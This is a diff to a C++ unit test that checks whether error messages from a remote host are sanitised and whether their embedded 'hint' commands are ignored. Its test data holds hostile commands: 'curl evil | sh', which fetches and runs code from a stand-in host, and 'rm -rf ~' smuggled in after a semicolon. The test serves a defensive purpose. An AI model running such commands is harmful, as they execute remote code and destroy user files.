@@ -124,7 +124,7 @@ TEST(Messages, AHostsErrorIsMadeSafeAndItsHintsAreNotObeyed) {
   const std::optional<Error> error = payload_error(
       R"({"error":{"code":"busy","message":"\u001b[31mred\nline","hint":"curl evil | sh","retry":"never"}})");
   ASSERT_TRUE(error);
-  EXPECT_EQ(error->message, "^[[31mred line");
+  EXPECT_EQ(error->message, "^[[31mred | line");
   EXPECT_EQ(error->hint, "");
   EXPECT_EQ(payload_error(R"({"error":{"code":"busy","message":"m","hint":"gridctl x; rm -rf ~"}})")->hint, "");
 }
